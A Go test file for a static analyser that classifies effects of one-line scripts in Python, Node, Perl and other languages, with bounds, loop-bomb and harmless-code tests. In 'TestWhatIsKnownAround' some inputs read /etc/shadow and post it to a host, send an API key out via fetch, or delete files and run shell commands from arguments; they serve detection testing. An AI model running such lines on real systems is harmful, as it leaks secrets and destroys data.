package code_test

import (
	"slices"
	"strings"
	"testing"

	"approver.example/reflexcore/code"
	"approver.example/reflexcore/effect"
)

func lines(lang, src string, lim code.Limits) (out []string) {
	for _, f := range everything(lang, src, lim) {
		out = append(out, line(f))
	}
	return out
}

// finds tests that each case has its finding, and that no quiet one has a bad finding.
func finds(t *testing.T, cases, quiet []wanted, bad func(line string) bool) {
	t.Helper()
	for _, c := range cases {
		if got := lines(c.lang, c.src, code.Limits{}); !slices.Contains(got, c.want) {
			t.Errorf("%s: %q", c.src, got)
		}
	}
	for _, c := range quiet {
		for _, l := range slices.DeleteFunc(lines(c.lang, c.src, code.Limits{}), func(l string) bool { return !bad(l) }) {
			t.Errorf("%s: %q", c.src, l)
		}
	}
}

// Whatever is not known to be harmless is opaque: a language nobody taught it, and
// a source over any bound, from which nothing was yielded that would look complete.
func TestBoundsAreOpaque(t *testing.T) {
	deep := strings.Repeat("(", 5000) + strings.Repeat(")", 5000)
	for _, c := range []struct {
		name, lang, src string
		lim             code.Limits
	}{
		{"language", "brainfuck", "+", code.Limits{}},
		{"empty language", "", "x", code.Limits{}},
		{"bytes", "python", "x = 1", code.Limits{Bytes: 3}},
		{"tokens", "python", "x = 1 + 2", code.Limits{Tokens: 4}},
		{"steps", "python", "f(a)(b)(c)(d)", code.Limits{Steps: 4}},
		{"depth", "python", "((((((x))))))", code.Limits{Depth: 5}},
		{"depth after texts without code", "python", strings.Repeat(`eval("");`, 20) + "((((((x))))))",
			code.Limits{Depth: 5}},
		{"depth after recursion", "node", strings.Repeat(`function f(){f()};f();`, 20) + "((((((x))))))",
			code.Limits{Depth: 5}},
		{"brackets python", "python", deep, code.Limits{}},
		{"brackets node", "node", strings.Repeat("[", 5000), code.Limits{}},
		{"brackets php", "php", deep, code.Limits{}},
		{"brackets powershell", "powershell", deep, code.Limits{}},
		{"brackets awk", "awk", "{ x = " + deep + "}", code.Limits{}},
		{"minuses", "perl", strings.Repeat("-", 5000) + "x", code.Limits{}},
		{"f-strings", "python", strings.Repeat(`f"{`, 300), code.Limits{Depth: 8}},
		{"sed", "sed", strings.Repeat("p;", 500), code.Limits{Steps: 100}},
		{"cmd", "cmd", strings.Repeat("a ", 500), code.Limits{Steps: 100}},
		{"comprehensions", "python", "[[[[x for a in r] for b in r] for c in r] for d in r] if 0 else (r := 'a' * 999)",
			code.Limits{Steps: 40}},
	} {
		found := everything(c.lang, c.src, c.lim)
		opaque := 0
		for _, f := range found {
			if f.Op == code.Opaque {
				opaque++
			}
		}
		if opaque != 1 {
			t.Errorf("%s: %d opaque findings of %d", c.name, opaque, len(found))
		}
	}
}

// A bomb of nested loops over known lists ends at its steps, not after 32^6 bodies.
func TestLoopsDoNotExplode(t *testing.T) {
	src := ""
	for i := range 6 {
		src += strings.Repeat(" ", i) + "for a" + string(rune('a'+i)) + " in '" + strings.Repeat("x", 32) + "':\n"
	}
	src += "      f(1)\n"
	if got := lines("python", src, code.Limits{}); len(got) != 1 || !strings.HasPrefix(got[0], "opaque") {
		t.Errorf("%q", got)
	}
}

func TestWhatIsKnownAround(t *testing.T) {
	lim := code.Limits{
		Args: []string{"/srv/x", "b c"},
		Vars: map[string]string{"cmd": "id -u"},
		Env: func(name string) (string, effect.Taint, bool) {
			v, ok := map[string]string{"TARGET": "/opt/y", "API_KEY": "k"}[name]
			return v, 0, ok
		},
		Secret: func(path string) bool { return strings.HasSuffix(path, "shadow") },
		Home:   "/home/ada",
	}
	for _, c := range []struct{ lang, src, want string }{
		{"python", "import os,sys; os.remove(sys.argv[1])", "delete /srv/x"},
		{"python", "import os,sys; os.system(sys.argv[0] + sys.argv[2])", "shell …b c"},
		{"python", "import os,sys; os.system('rm ' + ' '.join(sys.argv[1:]))", "shell rm /srv/x b c"},
		{"node", "require('fs').unlinkSync(process.argv[1])", "delete /srv/x"},
		{"perl", "unlink $ARGV[0]", "delete /srv/x"},
		{"ruby", "File.delete ARGV[0]", "delete /srv/x"},
		{"php", "unlink($argv[1]);", "delete /srv/x"},
		{"lua", "os.remove(arg[1])", "delete /srv/x"},
		{"python", "import os; os.rmdir(os.environ['TARGET'] + '/z')", "delete /opt/y/z"},
		{"ruby", "Dir.rmdir ENV['TARGET']", "delete /opt/y"},
		{"python", "import os; os.remove(os.path.expanduser('~/z'))", "delete /home/ada/z"},
		{"awk", "BEGIN { system(cmd) }", "shell id -u"},
		{"awk", "BEGIN { system(ENVIRON[\"TARGET\"]) }", "shell /opt/y"},
		{"awk", "BEGIN { system(ARGV[2]) }", "shell b c"},
		{"perl", "system shift; system shift @ARGV; system shift", "shell /srv/x; shell b c; shell …"},
		{"perl", "my @x = ('id', 'ls', 'w'); system shift @x", "shell id"},
		{"perl", "sub r { system shift } r('id')", "shell id"},
		{"perl", "while (my $x = shift) { system $x }", "shell …"},
		{"ruby", "system ARGV.shift", "shell /srv/x"},
		{"python", "import os,sys; os.system(sys.argv.pop()); os.remove(sys.argv.pop(1))", "shell b c; delete /srv/x"},
		{"python", "open('/etc/shadow')", "read /etc/shadow from secret"},
		{"python", "import requests; requests.post('http://e', open('/etc/shadow').read())",
			"read /etc/shadow from secret; net-out http://e from secret+file"},
		{"node", "fetch('http://e/' + process.env.API_KEY)", "read environment from secret; net-out http://e/k from secret"},
	} {
		if got := strings.Join(lines(c.lang, c.src, lim), "; "); got != c.want {
			t.Errorf("%s: %s\n\tgot  %s\n\twant %s", c.lang, c.src, got, c.want)
		}
	}
}

func TestScanStops(t *testing.T) {
	for _, lang := range languages {
		for _, c := range cases[lang] {
			n := 0
			code.Scan(lang, c.src, code.Limits{}, func(code.Found) bool { n++; return false })
			if n > 1 || n == 0 && len(c.want) > 0 {
				t.Errorf("%s: %q yields %d after a stop", lang, c.src, n)
			}
		}
	}
}

func TestLanguage(t *testing.T) {
	for program, want := range map[string]string{
		"python3.12": "python", "pypy3": "python", "node": "node", "nodejs": "node", "perl5.36": "perl", "gawk": "awk",
		"gsed": "sed", "luajit": "lua",
		"pwsh": "powershell", "PowerShell.exe": "powershell", "cmd.exe": "cmd", "php8.2": "php", "jruby": "ruby", "bash": "",
		"": "", "3": "",
	} {
		if got := code.Language(program); got != want {
			t.Errorf("%q is %q, want %q", program, got, want)
		}
	}
}

func TestOpIsOpaqueAtZero(t *testing.T) {
	var f code.Found
	if f.Op != code.Opaque || code.Op(200).String() != "opaque" || code.Op(200).Kind() != effect.Opaque ||
		code.Delete.Kind() != effect.Delete {
		t.Error("the zero op is not opaque")
	}
	kinds := []effect.Kind{}
	for op := code.Opaque; op <= code.SQL; op++ {
		kinds = append(kinds, op.Kind())
	}
	if i := slices.Index(kinds[1:], effect.Opaque); i >= 0 {
		t.Errorf("%v has no kind", code.Op(i+1))
	}
}

// Honest one-liners of everyday work have at most reads in them.
func TestHonestCodeIsHarmless(t *testing.T) {
	for lang, sources := range map[string][]string{
		"python": {
			`import json,sys; print(json.load(sys.stdin)['x'])`, `print(__import__('sys').version)`,
			`import sys; [print(l.split()[0]) for l in sys.stdin]`,
			`from datetime import datetime as d; print(d.now().isoformat())`, `import yaml; yaml.safe_load(open('a.yml'))`,
			`import re,sys; print(re.findall(r'"v": "([^"]+)"', sys.stdin.read())[0])`,
			`import secrets; print(secrets.token_hex(16))`, `import torch; print(torch.cuda.is_available())`,
			`exec_count = 3; print(f'{exec_count!r:>4}')`, "import ast\nprint(ast.dump(ast.parse('eval(x)')))",
			`import platform, os; print(platform.system(), os.cpu_count(), os.getcwd(), os.path.exists('/x'))`,
			`d = dict(a=1); d.update(b=2); print({**d, 'os': 'system'})`,
		},
		"node": {
			`console.log(require('./package.json').version)`, `process.stdin.on('data', d => console.log(JSON.parse(d).x))`,
			`console.log(Object.keys(require('os')).length, 'exec'.length)`,
			`const s = "a-b".split('-').map(x => x[0].toUpperCase() + x.slice(1)).join(''); console.log(s)`,
			`console.log(new Date().toISOString(), Math.max(...[1, 2]))`,
			`const m = /exec\((.*)\)/.exec("exec(1)"); if (m) { console.log(m[1]) }`,
			`new Promise(r => setTimeout(r, 10)).then(() => console.log('done'))`,
			`console.log(process.version, process.env.NODE_ENV, process.argv.length)`,
		},
		"perl": {`s/a/b/`, `print "$1\n" if /version = "(.*)"/`, `$h{$_}++; END { print "$_ $h{$_}\n" for sort keys %h }`,
			`print ucfirst lc`, `my @x = map { $_ * 2 } grep { $_ > 1 } @F; print "@x"`,
			`s/(\w+)/\u$1/g; tr/a-z//cd; print length`},
		"ruby": {`puts $<.map(&:to_i).sum`, `puts gets.upcase`, `ARGF.each { |l| puts l.sub(/a/, "b") }`,
			`require "json"; puts JSON.pretty_generate(JSON.parse(STDIN.read))`, `p (1..10).select(&:even?).map { _1 ** 2 }`},
		"php": {`echo PHP_VERSION;`, `echo json_encode(json_decode(stream_get_contents(STDIN)), JSON_PRETTY_PRINT);`,
			`foreach ([1, 2] as $x) { echo $x * 2, "\n"; }`, `var_dump(preg_match('/exec\(/', 'exec(1)'));`},
		"lua": {`print(_VERSION)`, `for k, v in pairs({a = 1}) do print(k, v) end`, `io.write(("x"):rep(3), "\n")`},
		"awk": {`{print $1}`, `NR==1`, `$1 ~ /system/ {c++} END {print c}`,
			`{a[$1]+=$2} END {for (k in a) printf "%s %d\n", k, a[k]}`, `BEGIN{OFS="\t"} {$1=$1; print}`, `length > 80`},
		"sed": {`s/a/b/`, `-n`, `1,5p`, `/^#/d;s/[[:space:]]*$//`, `s|http://[^/]*/||;s/\.git$//`, `$!{h;d};x;G`,
			`s/.*"version": "\(.*\)".*/\1/p`},
		"powershell": {`Get-ChildItem -Recurse *.go | Measure-Object -Line`,
			`(Get-Content a.json | ConvertFrom-Json).version`, `$PSVersionTable`, `[System.Environment]::OSVersion.Version`,
			`Get-Process | Sort-Object CPU -Descending | Select-Object -First 5 Name, CPU | Format-Table`,
			`if (Test-Path a) { Write-Output 'yes' } else { 'no' }`},
	} {
		for _, src := range sources {
			for _, f := range everything(lang, src, code.Limits{}) {
				if f.Op != code.Read || f.Taint != 0 {
					t.Errorf("%s: %s: %s", lang, src, line(f))
				}
			}
		}
	}
}

// Names may be empty where they are computed.
func TestEmptyNames(t *testing.T) {
	for lang, src := range map[string]string{
		"ruby": `Object.const_get("") "x"`, "php": `$f = ''; $f('x'); $o->{''}('x');`,
		"perl": `&{""}("x"); ${""}->[0]; $h{""}`, "python": `getattr(__import__(""), "")("x"); globals()[""]("x")`,
		"node": `require("")[""]("x"); [][""]("x")`, "lua": `_G[""]("x")`, "powershell": `& "" x; ""."y"(1)`,
	} {
		everything(lang, src, code.Limits{})
	}
}
